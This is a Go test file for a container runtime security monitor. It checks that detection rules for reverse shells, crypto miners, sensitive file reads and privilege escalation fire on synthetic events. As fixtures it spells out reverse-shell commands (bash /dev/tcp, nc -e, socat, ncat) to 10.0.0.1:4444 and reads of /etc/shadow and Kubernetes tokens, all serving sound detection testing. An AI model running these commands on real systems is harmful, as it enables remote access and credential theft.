package rules

import (
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/vigil-dev/vigil/monitor/event"
)

type fireCase struct {
	name string
	ev   *event.Event
	want bool
}

func with(ev *event.Event, f func(*event.Event)) *event.Event {
	f(ev)
	return ev
}

func checkFires(t *testing.T, rs *Ruleset, rule string, cases []fireCase) {
	t.Helper()
	r := rs.Rule(rule)
	if r == nil {
		t.Fatalf("rule %q not loaded", rule)
	}
	if !r.Active() {
		t.Fatalf("rule %q not active: %v %s %v", rule, r.Status(), r.Reason(), r.Err())
	}
	for _, c := range cases {
		matched := false
		for _, m := range rs.Match(c.ev) {
			if m == r {
				matched = true
			}
		}
		if matched != c.want {
			t.Errorf("%s / %s: matched = %v, want %v", rule, c.name, matched, c.want)
		}
	}
}

func TestBuiltinRules(t *testing.T) {
	rs, warns, err := LoadBuiltin()
	if err != nil {
		t.Fatalf("LoadBuiltin: %v", err)
	}
	if len(warns) != 0 {
		t.Errorf("built-in rules have warnings: %v", warns)
	}
	want := map[string]Priority{
		"Shell Spawned in Container":          PriorityWarning,
		"Sensitive File Access":               PriorityWarning,
		"Package Management in Container":     PriorityError,
		"Container Drift Detected":            PriorityCritical,
		"Reverse Shell":                       PriorityCritical,
		"Crypto Miner":                        PriorityCritical,
		"Outbound Connection to Unusual Port": PriorityNotice,
		"Privilege Escalation":                PriorityError,
	}
	if len(rs.Rules()) != len(want) {
		t.Errorf("%d built-in rules, want %d: %v", len(rs.Rules()), len(want), names(rs.Rules()))
	}
	for name, p := range want {
		r := rs.Rule(name)
		if r == nil || r.Priority() != p || !r.Active() || !r.HasTag("container") {
			t.Errorf("rule %q: %+v", name, r)
			continue
		}
		if u := r.UnsupportedOutputFields(); len(u) > 0 {
			t.Errorf("rule %q prints fields vigil cannot produce: %v", name, u)
		}
	}
	if tags := rs.Rule("Shell Spawned in Container").Tags(); tags[0] != "container" || tags[1] != "shell" {
		t.Errorf("shell rule tags %v", tags)
	}

	entry := with(execEvent("sh", "-c", "exec nginx"), func(e *event.Event) { e.Process.IsEntrypoint = true })
	tty := with(execEvent("sh", "-i"), func(e *event.Event) { e.Process.TTY = 34816 })
	upper := with(execEvent("payload"), func(e *event.Event) { e.Process.IsExeUpperLayer = true })
	memfd := with(execEvent("memfd:x"), func(e *event.Event) { e.Process.IsExeFromMemfd = true })
	aptWrite := with(openEvent("/usr/bin/nmap", false, true), func(e *event.Event) { e.Process.Name = "apt-get" })
	dns := connectEvent("10.96.0.10", 53, "udp")
	local := connectEvent("127.0.0.1", 4444, "tcp")
	local.File.CIP = "127.0.0.1"

	checkFires(t, rs, "Shell Spawned in Container", []fireCase{
		{"bash in container", execEvent("bash"), true},
		{"sh -c in container", execEvent("sh", "-c", "id"), true},
		{"nginx", baseEvent(event.Execve), false},
		{"entrypoint shell", entry, false},
		{"shell on host", onHost(execEvent("bash")), false},
		{"open by bash", with(openEvent("/etc/hosts", true, false), func(e *event.Event) { e.Process.Name = "bash" }), false},
	})
	checkFires(t, rs, "Sensitive File Access", []fireCase{
		{"read shadow", openEvent("/etc/shadow", true, false), true},
		{"read sudoers.d", openEvent("/etc/sudoers.d/admins", true, false), true},
		{"read hosts", openEvent("/etc/hosts", true, false), false},
		{"write-only shadow", openEvent("/etc/shadow", false, true), false},
		{"host", onHost(openEvent("/etc/shadow", true, false)), false},
	})
	checkFires(t, rs, "Package Management in Container", []fireCase{
		{"apt-get", execEvent("apt-get", "install", "-y", "nmap"), true},
		{"pip", execEvent("pip", "install", "requests"), true},
		{"apk", execEvent("apk", "add", "curl"), true},
		{"nginx", baseEvent(event.Execve), false},
		{"host apt", onHost(execEvent("apt-get", "update")), false},
	})
	checkFires(t, rs, "Container Drift Detected", []fireCase{
		{"exec from upper layer", upper, true},
		{"exec from memfd", memfd, true},
		{"script written", openEvent("/tmp/run.sh", false, true), true},
		{"binary written", openEvent("/usr/local/bin/tool", false, true), true},
		{"package manager writes", aptWrite, false},
		{"image binary", execEvent("ls"), false},
		{"script read", openEvent("/tmp/run.sh", true, false), false},
		{"log written", openEvent("/var/log/app.log", false, true), false},
		{"host upper", onHost(with(execEvent("x"), func(e *event.Event) { e.Process.IsExeUpperLayer = true })), false},
	})
	checkFires(t, rs, "Reverse Shell", []fireCase{
		{"bash /dev/tcp", execEvent("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), true},
		{"/dev/udp", execEvent("sh", "-c", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"), true},
		{"sh -i without tty", execEvent("sh", "-i"), true},
		{"nc -e", execEvent("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), true},
		{"nc combined flags", execEvent("nc", "-nve", "/bin/sh", "10.0.0.1", "4444"), true},
		{"ncat -c", execEvent("ncat", "10.0.0.1", "4444", "-c", "bash"), true},
		{"python socket", execEvent("python3", "-c", "import socket,subprocess,os;s=socket.socket()"), true},
		{"perl socket", execEvent("perl", "-e", "use Socket;$i=\"10.0.0.1\""), true},
		{"socat exec", execEvent("socat", "tcp:10.0.0.1:4444", "exec:/bin/sh,pty"), true},
		{"sh -i with tty", tty, false},
		{"nc listen", execEvent("nc", "-lvnp", "8080"), false},
		{"python app", execEvent("python3", "app.py"), false},
		{"bash script", execEvent("bash", "/entrypoint.sh"), false},
	})
	checkFires(t, rs, "Crypto Miner", []fireCase{
		{"xmrig", execEvent("xmrig", "--donate-level", "1"), true},
		{"stratum url", execEvent("app", "-o", "stratum+tcp://pool.example:3333"), true},
		{"stratum ssl upper case", execEvent("app", "-o", "STRATUM+SSL://pool.example:443"), true},
		{"nginx", baseEvent(event.Execve), false},
	})
	checkFires(t, rs, "Outbound Connection to Unusual Port", []fireCase{
		{"port 4444", connectEvent("93.184.216.34", 4444, "tcp"), true},
		{"ipv6 port 6667", connectEvent("2001:db8::1", 6667, "tcp"), true},
		{"https", connectEvent("93.184.216.34", 443, "tcp"), false},
		{"dns", dns, false},
		{"loopback", local, false},
		{"host", onHost(connectEvent("93.184.216.34", 4444, "tcp")), false},
	})
	checkFires(t, rs, "Privilege Escalation", []fireCase{
		{"sudo", execEvent("sudo", "-i"), true},
		{"nsenter", execEvent("nsenter", "--target", "1", "--mount"), true},
		{"chmod u+s", execEvent("chmod", "u+s", "/tmp/sh"), true},
		{"chmod 4755", execEvent("chmod", "4755", "/tmp/sh"), true},
		{"chmod -R g+s", execEvent("chmod", "-R", "g+s", "/srv"), true},
		{"chmod 755", execEvent("chmod", "755", "/tmp/sh"), false},
		{"chmod 0755", execEvent("chmod", "0755", "/tmp/sh"), false},
		{"chmod +x", execEvent("chmod", "+x", "/tmp/sh"), false},
		{"nginx", baseEvent(event.Execve), false},
	})
}

func TestBuiltinTuning(t *testing.T) {
	rs, _ := mustLoad(t, append(BuiltinSources(), src("tune.yaml", `
- rule: Shell Spawned in Container
  exceptions:
    - name: known_shell_parents
      values: [tini, supervisord]
  override:
    exceptions: append
- macro: user_known_package_manager_in_container
  condition: (proc.cmdline = "apk info")
`))...)
	checkFires(t, rs, "Shell Spawned in Container", []fireCase{
		{"under tini", with(execEvent("sh"), func(e *event.Event) { e.Process.PName = "tini" }), false},
		{"under bash", execEvent("sh"), true},
	})
	checkFires(t, rs, "Package Management in Container", []fireCase{
		{"allowed command", execEvent("apk", "info"), false},
		{"other command", execEvent("apk", "add", "curl"), true},
	})
}

func referenceSource(t *testing.T) Source {
	t.Helper()
	data, err := os.ReadFile("testdata/reference_rules.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return Source{Name: "testdata/reference_rules.yaml", Data: data}
}

// TestReferenceCopy checks that testdata holds the first yaml block of the
// product's reference document verbatim.
func TestReferenceCopy(t *testing.T) {
	seed := filepath.Join("..", "..", "..", "shared", "seed", "container-runtime-security-reference.md")
	doc, err := os.ReadFile(seed)
	if err != nil {
		t.Skipf("requires the reference document at %s (beside the repository): %v", seed, err)
	}
	m := regexp.MustCompile("(?s)```yaml\n(.*?)```").FindSubmatch(doc)
	if m == nil {
		t.Fatal("no yaml block in the reference document")
	}
	if got := referenceSource(t).Data; string(got) != string(m[1]) {
		t.Error("testdata/reference_rules.yaml differs from the reference document's Pattern 1 rules")
	}
}

func TestReferenceRules(t *testing.T) {
	ref := referenceSource(t)
	rs, warns, err := Load(BaseLibrarySource(), ref)
	if err != nil {
		t.Fatalf("reference rules on the base library: %v", err)
	}
	// The reference uses its empty allow-lists as conditions, which Falco
	// rejects, and fd.filename with a '/', which never matches: vigil
	// accepts both with a warning naming the line.
	wantWarn := []string{
		"testdata/reference_rules.yaml:4: rule 'Shell Spawned in Container': the empty list 'user_known_shell_spawn_container' is used as a condition",
		"testdata/reference_rules.yaml:19: rule 'Sensitive File Access': the empty list 'user_known_sensitive_file_access' is used as a condition",
		`testdata/reference_rules.yaml:47: rule 'Container Drift Detected': 'fd.filename contains "/bin/"' never matches`,
		`testdata/reference_rules.yaml:47: rule 'Container Drift Detected': 'fd.filename contains "/sbin/"' never matches`,
	}
	if len(warns) != len(wantWarn) {
		t.Errorf("%d warnings, want %d: %v", len(warns), len(wantWarn), warns)
	}
	for _, w := range wantWarn {
		found := false
		for _, got := range warns {
			if strings.HasPrefix(got.String(), w) {
				found = true
			}
		}
		if !found {
			t.Errorf("missing warning %q in %v", w, warns)
		}
	}
	if got := len(rs.Rules()); got != 5 {
		t.Errorf("%d rules, want 5", got)
	}
	checkReference(t, rs)

	// On top of the full built-in set the reference replaces the built-in
	// rules of the same names and keeps vigil's others.
	all, _, err := LoadBuiltin(ref)
	if err != nil {
		t.Fatalf("reference rules on the built-ins: %v", err)
	}
	checkReference(t, all)
	if r := all.Rule("Container Drift Detected"); r.Priority() != PriorityError || r.File() != ref.Name {
		t.Errorf("reference drift rule not in force: %v from %s", r.Priority(), r.File())
	}
	for _, name := range []string{"Reverse Shell", "Crypto Miner", "Privilege Escalation"} {
		if all.Rule(name) == nil || !all.Rule(name).Active() {
			t.Errorf("built-in %q lost", name)
		}
	}
}

func checkReference(t *testing.T, rs *Ruleset) {
	t.Helper()
	checkFires(t, rs, "Shell Spawned in Container", []fireCase{
		{"bash", execEvent("bash"), true},
		{"zsh", execEvent("zsh", "-l"), true},
		{"nginx", baseEvent(event.Execve), false},
		{"host", onHost(execEvent("bash")), false},
	})
	checkFires(t, rs, "Sensitive File Access", []fireCase{
		{"passwd", openEvent("/etc/passwd", true, false), true},
		{"shadow", openEvent("/etc/shadow", true, false), true},
		{"kubernetes", openEvent("/etc/kubernetes/admin.conf", true, false), true},
		{"secrets", openEvent("/var/run/secrets/kubernetes.io/serviceaccount/token", true, false), true},
		{"hosts", openEvent("/etc/hosts", true, false), false},
		{"written", openEvent("/etc/passwd", false, true), false},
	})
	checkFires(t, rs, "Package Management in Container", []fireCase{
		{"apt", execEvent("apt", "install", "nmap"), true},
		{"npm", execEvent("npm", "install"), true},
		{"nginx", baseEvent(event.Execve), false},
	})
	checkFires(t, rs, "Container Drift Detected", []fireCase{
		{"script written", openEvent("/app/run.sh", false, true), true},
		{"python written", openEvent("/app/x.py", true, true), true},
		{"script read", openEvent("/app/run.sh", true, false), false},
		{"binary written (fd.filename has no /)", openEvent("/usr/bin/tool", false, true), false},
	})
	checkFires(t, rs, "Outbound Connection to Unusual Port", []fireCase{
		{"4444", connectEvent("93.184.216.34", 4444, "tcp"), true},
		{"443", connectEvent("93.184.216.34", 443, "tcp"), false},
		{"postgres", connectEvent("10.0.0.5", 5432, "tcp"), false},
	})
}

func ruleItems(t *testing.T, files ...string) []string {
	t.Helper()
	re := regexp.MustCompile(`(?m)^- rule: (.*)$`)
	var out []string
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range re.FindAllSubmatch(data, -1) {
			out = append(out, strings.TrimSpace(string(m[1])))
		}
	}
	return out
}

var stockFiles = []string{
	"testdata/falco/falco_rules.yaml",
	"testdata/falco/falco-incubating_rules.yaml",
	"testdata/falco/falco-sandbox_rules.yaml",
}

func stockSources(t testing.TB) []Source {
	var out []Source
	for _, f := range stockFiles {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, Source{Name: f, Data: data})
	}
	return out
}

func TestFalcoStockRules(t *testing.T) {
	rs, warns, err := Load(stockSources(t)...)
	if err != nil {
		t.Fatalf("Falco's stock rules do not load: %v", err)
	}
	items := ruleItems(t, stockFiles...)
	if got := len(rs.Rules()); got != len(items) {
		t.Errorf("%d rules loaded, want %d (the number of '- rule:' items)", got, len(items))
	}
	for _, name := range items {
		if rs.Rule(name) == nil {
			t.Errorf("rule %q not loaded", name)
		}
	}
	byStatus := map[Status]int{}
	reasons := map[string]int{}
	for _, r := range rs.Rules() {
		byStatus[r.Status()]++
		if r.Status() == StatusUnsupported {
			fields := map[string]bool{}
			for _, f := range strings.Split(r.Reason(), ", field ") {
				f = strings.TrimPrefix(f, "field ")
				if i := strings.IndexAny(f, " ["); i > 0 {
					f = f[:i]
				}
				fields[f] = true
			}
			for f := range fields {
				reasons[f]++ // rules that need f
			}
		}
	}
	if byStatus[StatusError] != 0 {
		t.Errorf("%d stock rules fail to compile", byStatus[StatusError])
	}
	if byStatus[StatusOK]+byStatus[StatusUnsupported] != len(items) {
		t.Errorf("statuses %v do not add up to %d", byStatus, len(items))
	}
	keys := make([]string, 0, len(reasons))
	for k := range reasons {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		return reasons[keys[i]] > reasons[keys[j]] || reasons[keys[i]] == reasons[keys[j]] && keys[i] < keys[j]
	})
	var b strings.Builder
	for _, k := range keys {
		b.WriteString("  " + k + ": " + itoa(reasons[k]) + "\n")
	}
	t.Logf("Falco stock rules: %d loaded, %d fully evaluable, %d unsupported, %d warnings; unsupported rules by field:\n%s",
		len(rs.Rules()), byStatus[StatusOK], byStatus[StatusUnsupported], len(warns), b.String())

	// Rules vigil evaluates fully fire on vigil events.
	checkFires(t, rs, "Drop and execute new binary in container", []fireCase{
		{"upper layer", with(execEvent("payload"), func(e *event.Event) { e.Process.IsExeUpperLayer = true }), true},
		{"image binary", execEvent("ls"), false},
	})
	checkFires(t, rs, "Netcat Remote Code Execution in Container", []fireCase{
		{"nc -e", execEvent("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), true},
		{"nc -l", execEvent("nc", "-l", "8080"), false},
	})
	checkFires(t, rs, "Terminal shell in container", []fireCase{
		{"kubectl exec -it", with(execEvent("bash"), func(e *event.Event) { e.Process.TTY = 34816; e.Process.PName = "runc:[1:CHILD]" }), true},
		{"no tty", with(execEvent("bash"), func(e *event.Event) { e.Process.PName = "runc:[1:CHILD]" }), false},
	})
	checkFires(t, rs, "Detect crypto miners using the Stratum protocol", []fireCase{
		{"stratum", execEvent("xmrig", "-o", "stratum+tcp://pool:3333"), true},
	})
	checkFires(t, rs, "Read environment variable from /proc files", []fireCase{
		// Falco's open_read requires fd.num>=0: vigil reports 0 for an
		// open it saw, so Falco's file rules fire on vigil's events.
		{"environ", openEvent("/proc/1/environ", true, false), true},
		{"other file", openEvent("/proc/1/status", true, false), false},
	})
	for name, reason := range map[string]string{
		"Read sensitive file trusted after startup":                "field proc.duration",
		"Clear Log Activities":                                     "field evt.arg.flags",
		"Redirect STDOUT/STDIN to Network Connection in Container": "field evt.rawres",
	} {
		if r := rs.Rule(name); r.Status() != StatusUnsupported || !strings.Contains(r.Reason(), reason) {
			t.Errorf("%s: %v %q, want unsupported %q", name, r.Status(), r.Reason(), reason)
		}
	}

	// They also load on top of vigil's built-ins.
	if _, _, err := LoadBuiltin(stockSources(t)...); err != nil {
		t.Errorf("stock rules on the built-ins: %v", err)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for ; n > 0; n /= 10 {
		b = append([]byte{byte('0' + n%10)}, b...)
	}
	return string(b)
}

func TestProcNamesAndFilePaths(t *testing.T) {
	rs, _, err := LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	procs := rs.ProcNames(nil)
	for _, want := range []string{"bash", "sh", "apt-get", "pip", "75-system-updat", "xmrig", "sudo", "nsenter", "chmod", "nc", "socat", "python3"} {
		if !containsString(procs, want) {
			t.Errorf("ProcNames lacks %q: %v", want, procs)
		}
	}
	if !sort.StringsAreSorted(procs) {
		t.Error("ProcNames not sorted")
	}
	paths := rs.FilePaths(nil)
	for _, want := range []string{"/etc/shadow", "/etc/sudoers", "/etc/gshadow"} {
		if !containsString(paths.Exact, want) {
			t.Errorf("FilePaths.Exact lacks %q: %v", want, paths.Exact)
		}
	}
	// "fd.name startswith /etc and fd.name in (...)" needs only the names.
	if got := strings.Join(paths.Prefixes, ","); got != "/etc/pam.d/,/etc/sudoers.d/" {
		t.Errorf("FilePaths.Prefixes = %s, want /etc/pam.d/,/etc/sudoers.d/", got)
	}
	// Only the file rules count.
	if paths2 := rs.FilePaths([]*Rule{rs.Rule("Reverse Shell")}); len(paths2.Exact)+len(paths2.Prefixes)+len(paths2.Names) != 0 {
		t.Errorf("FilePaths of an exec rule = %+v", paths2)
	}

	ref, _, err := Load(BaseLibrarySource(), referenceSource(t))
	if err != nil {
		t.Fatal(err)
	}
	rp := ref.FilePaths(nil)
	for _, want := range []string{"/etc/shadow", "/etc/passwd", "/etc/kubernetes/", "/var/run/secrets/"} {
		if !containsString(rp.Prefixes, want) {
			t.Errorf("reference FilePaths.Prefixes lacks %q: %+v", want, rp)
		}
	}

	neg, _ := mustLoad(t, src("n.yaml", `
- list: excluded
  items: [b, c]
- rule: r
  desc: d
  condition: evt.type = openat and proc.name in (a, z) and not proc.name in (excluded) and fd.filename in (id_rsa) and fd.directory = /root/.ssh and not fd.name = /etc/x
  output: o
  priority: INFO
`))
	if got := strings.Join(neg.ProcNames(nil), ","); got != "a,z" {
		t.Errorf("ProcNames = %s, want a,z (negated names excluded)", got)
	}
	np := neg.FilePaths(nil)
	if strings.Join(np.Names, ",") != "id_rsa" || strings.Join(np.Prefixes, ",") != "/root/.ssh/" || len(np.Exact) != 0 {
		t.Errorf("FilePaths = %+v", np)
	}
}

func containsString(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}
